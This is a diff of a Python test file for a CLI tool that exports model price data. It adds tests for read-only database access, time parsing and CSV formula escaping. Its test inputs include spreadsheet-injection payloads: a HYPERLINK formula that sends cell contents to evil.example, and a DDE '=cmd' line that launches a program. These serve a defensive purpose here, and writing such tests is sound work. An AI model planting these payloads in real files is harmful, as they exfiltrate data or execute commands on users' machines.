@@ -8,6 +8,8 @@ import gzip
 import io
 import json
 import os
+import re
+import sqlite3
 from collections import Counter
 from datetime import UTC, datetime
 from decimal import Decimal
@@ -16,14 +18,23 @@ from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
+from sqlite_utils import Database
 
 from rankbot.shell.cli import cli
 from rankbot.storage import UnitOfWork
-from tests.conftest import FIXTURES, catalog_bytes, rankings_csv, raw_models, serve_export
+from rankbot.storage.migrations import migrations
+from tests.conftest import (
+    FIXTURES,
+    catalog_bytes,
+    published_prices,
+    rankings_csv,
+    raw_models,
+    serve_export,
+)
 from tests.fakes.openrouter import FakeOpenRouter
 
 OLD, NEW = "2026-07-14T025033Z", "2026-07-20T194813Z"
-FIELDS = {"prompt": "prompt", "completion": "completion", "input_cache_read": "input_cache_read"}
+FIRST = ("prompt", "completion", "input_cache_read")  # each model's first fields, in order
 HOSTILE = '\x1b[31mEvil\nName, "quoted"\r\tend\u202e'
 
 Step = tuple[str, str, str, str, Decimal]  # model, field, from, until ("" if current), price
@@ -62,11 +73,11 @@ def iso(stamp: str) -> str:
 
 
 def prices_of(entry: dict[str, Any]) -> dict[str, Decimal]:
-    """An entry's stored prices per 1M tokens, by field, straight from the JSON."""
+    """An entry's stored prices (per 1M tokens, or per unit), by field, straight from the JSON;
+    none for a router, whose prices are set per request."""
     pricing = entry.get("pricing", {})
     dynamic = "-1" in (pricing.get("prompt"), pricing.get("completion"))
-    return {field: Decimal(pricing[key]) * 10**6 for field, key in FIELDS.items()
-            if pricing.get(key) is not None and not (dynamic and field != "input_cache_read")}
+    return {} if dynamic else published_prices(pricing)
 
 
 def expected_steps(old: str, new: str) -> set[Step]:
@@ -76,7 +87,7 @@ def expected_steps(old: str, new: str) -> set[Step]:
     for model_id in before.keys() | after.keys():
         a = prices_of(before[model_id]) if model_id in before else {}
         b = prices_of(after[model_id]) if model_id in after else {}
-        for field in FIELDS:
+        for field in a.keys() | b.keys():
             if field in a and a[field] == b.get(field):
                 steps.add((model_id, field, iso(old), "", a[field]))
                 continue
@@ -131,10 +142,11 @@ def test_prices_are_plain_decimals(env: dict[str, str], tmp_path: Path) -> None:
     imported(env, tmp_path, (OLD, json.dumps(catalog).encode()))
     model = catalog["data"][0]["id"]
     csv_text = invoke(env, "export", "prices", model).stdout
-    assert [line.rsplit(",", 1)[1] for line in csv_text.splitlines()[1:]] == [
+    assert [line.rsplit(",", 1)[1] for line in csv_text.splitlines()[1:4]] == [
         "1.5", "60.06", "10"]
+    assert [line.split(",")[2] for line in csv_text.splitlines()[1:4]] == list(FIRST)
     json_text = invoke(env, "export", "prices", model, "--format", "json").stdout
-    assert [line.rsplit(":", 1)[1] for line in json_text.splitlines()] == [
+    assert [line.rsplit(":", 1)[1] for line in json_text.splitlines()[:3]] == [
         " 1.5}", " 60.06}", " 10}"]
 
 
@@ -164,6 +176,7 @@ def test_a_query_matches_as_slash_price_does_removed_models_too(
 
 def test_bad_input_and_an_empty_database_are_one_line_each(env: dict[str, str],
                                                             tmp_path: Path) -> None:
+    UnitOfWork.open(env["RANKBOT_DB"]).close()  # a database, without a catalog yet
     empty = invoke(env, "export", "changes")
     assert empty.exit_code == 1
     assert empty.stderr == ("Error: no catalog stored yet: run `rankbot poll` or `rankbot "
@@ -199,7 +212,8 @@ def test_hostile_names_come_out_safely(env: dict[str, str], tmp_path: Path) -> N
     # csv module quotes the commas and quotes.
     hostile = [r for r in rows if r["model"] in (target["id"], "evil/model")]
     assert {r["name"] for r in hostile if r["until"] == ""} == {'Evil Name, "quoted" end'}
-    assert {(r["model"], r["field"], r["price"]) for r in hostile if r["until"] == ""} == {
+    assert {(r["model"], r["field"], r["price"]) for r in hostile if r["until"] == ""
+            and r["field"] in FIRST} == {
         (model, field, price) for model in (target["id"], "evil/model")
         for field, price in (("prompt", "2"), ("completion", "4"), ("input_cache_read", "0.5"))}
 
@@ -213,7 +227,7 @@ def test_hostile_names_come_out_safely(env: dict[str, str], tmp_path: Path) -> N
     assert {"at": iso(NEW), "kind": "model_added", "model": "evil/model", "name": HOSTILE,
             "prompt": "2", "completion": "4",
             "context_length": target.get("context_length")} in found
-    assert {"at": iso(NEW), "kind": "price_changed", "model": target["id"], "side": "prompt",
+    assert {"at": iso(NEW), "kind": "price_changed", "model": target["id"], "field": "prompt",
             "old": "1", "new": "2", "pct": "100"} in found
 
     # A close spelling suggested in an error is quoted: one line, no escape sequence.
@@ -239,7 +253,9 @@ def test_changes_are_what_poll_json_printed_when_the_catalogs_were_polled(
         store.close()
         assert fetch is not None
         at = fetch.at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
-        printed += [{"at": at, **json.loads(line)} for line in result.stdout.splitlines()]
+        printed += [{"at": at, **record} for line in result.stdout.splitlines()
+                    if not (record := json.loads(line))["kind"].startswith("sunset_")]
+        # (retirement dates are told as time passes, from the clock of each poll: not replayed)
     kinds = Counter(r["kind"] for r in printed)
     assert {"price_changed", "model_added", "model_removed", "context_changed"} <= kinds.keys()
 
@@ -254,3 +270,92 @@ def test_changes_are_what_poll_json_printed_when_the_catalogs_were_polled(
 
 def _key(record: dict[str, Any]) -> str:
     return json.dumps(record, sort_keys=True)
+
+
+# -- the database is only read; times and spreadsheets ------------------------------------------
+
+
+def test_export_never_creates_or_writes_the_database(env: dict[str, str], tmp_path: Path
+                                                     ) -> None:
+    db = Path(env["RANKBOT_DB"])
+    for args in (("prices",), ("changes",), ("catalog", "--at", "2026-07-20")):
+        missing = invoke(env, "export", *args)
+        assert missing.exit_code == 1, args
+        assert missing.stderr == (f"Error: no database at {db.absolute()}: run `rankbot poll` "
+                                  "first\n")
+        assert list(tmp_path.iterdir()) == []  # no file, no -wal, no folder
+    imported(env, tmp_path, fixture(OLD), fixture(NEW))
+    # As an operator who removed the console's subscription: a writable open would add it.
+    with sqlite3.connect(db) as conn:
+        conn.execute("DELETE FROM subscriptions")
+    conn.close()
+    before, mtime = db.read_bytes(), db.stat().st_mtime_ns
+    for args in (("prices",), ("prices", "qwen", "--format", "json"), ("changes",),
+                 ("catalog", "--at", iso(NEW))):
+        assert invoke(env, "export", *args).exit_code == 0, args
+    assert db.read_bytes() == before and db.stat().st_mtime_ns == mtime
+    with sqlite3.connect(db) as conn:
+        assert conn.execute("SELECT COUNT(*) FROM subscriptions").fetchone() == (0,)
+    conn.close()
+
+
+def test_a_database_that_needs_a_migration_is_refused_not_migrated(
+        env: dict[str, str]) -> None:
+    db = Path(env["RANKBOT_DB"])
+    older = Database(db)
+    last = migrations._migrations[-1].name  # as the rankbot before the newest migration left it
+    migrations.apply(older, stop_before=last)
+    older.close()
+    before = db.read_bytes()
+    result = invoke(env, "export", "prices")
+    assert result.exit_code == 2
+    assert result.stderr.count("\n") == 1 and "needs upgrading" in result.stderr
+    assert last in result.stderr, result.stderr
+    assert db.read_bytes() == before
+
+
+@pytest.mark.parametrize("args", [
+    ("catalog", "--at", "0001-01-01T00:00:00+01:00"),  # year 0 in UTC
+    ("catalog", "--at", "9999-12-31T23:00:00-05:00"),  # year 10000 in UTC
+    ("prices", "--since", "0001-01-01T00:00:00+14:00"),
+    ("changes", "--since", "9999-12-31T23:59:59-00:01"),
+    ("catalog", "--at", "2026-02-30"),
+])
+def test_a_time_out_of_range_is_one_line(env: dict[str, str], tmp_path: Path,
+                                         args: tuple[str, ...]) -> None:
+    imported(env, tmp_path, fixture(OLD))
+    result = invoke(env, "export", *args)
+    assert result.exit_code == 1
+    assert result.stdout == ""
+    assert result.stderr == (f"Error: {args[1]}: cannot read {args[2]!r} as a time; give "
+                             "2026-07-20 or 2026-07-20T19:48:13Z (UTC)\n")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_no_cell_is_a_spreadsheet_formula(env: dict[str, str], tmp_path: Path) -> None:
+    catalog = json.loads(catalog_bytes(OLD))
+    model = next(m for m in catalog["data"] if not m["id"].startswith("~"))
+    catalog["data"] = [{**model, "id": f"evil/formula-{n}", "name": name}
+                       for n, name in enumerate(FORMULAS)]
+    catalog["data"].append({**model, "id": "=cmd|'/c,calc'!A0", "name": "-1"})
+    imported(env, tmp_path, (OLD, json.dumps(catalog).encode()))
+    rows = list(csv.DictReader(io.StringIO(invoke(env, "export", "prices").stdout)))
+    names = {r["model"]: r["name"] for r in rows}
+    # OWASP: a text cell starting with = + - @ (or a tab or a carriage return, which are made
+    # a space or dropped here) gets a ' before it, so that a spreadsheet shows it as text.
+    assert names == {
+        "evil/formula-0": "'" + FORMULAS[0], "evil/formula-1": "'+1+1",
+        "evil/formula-2": "'-2+3", "evil/formula-3": "'@SUM(A1:A2)",
+        "evil/formula-4": " =1+1", "evil/formula-5": "'=1+1", "'=cmd|'/c,calc'!A0": "'-1"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+               for row in rows for cell in row.values())
+    # Times and prices are as they were; JSON has no cells to guard.
+    assert {(r["field"], Decimal(r["price"])) for r in rows if r["model"] == "evil/formula-0"
+            and r["field"] in FIRST} == {(field, Decimal(model["pricing"][field]) * 10**6)
+                                         for field in FIRST if field in model["pricing"]}
+    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", r["from"]) for r in rows)
+    records = json_steps(invoke(env, "export", "prices", "--format", "json").stdout)
+    assert {r["name"] for r in records} == {*FORMULAS, "-1"}
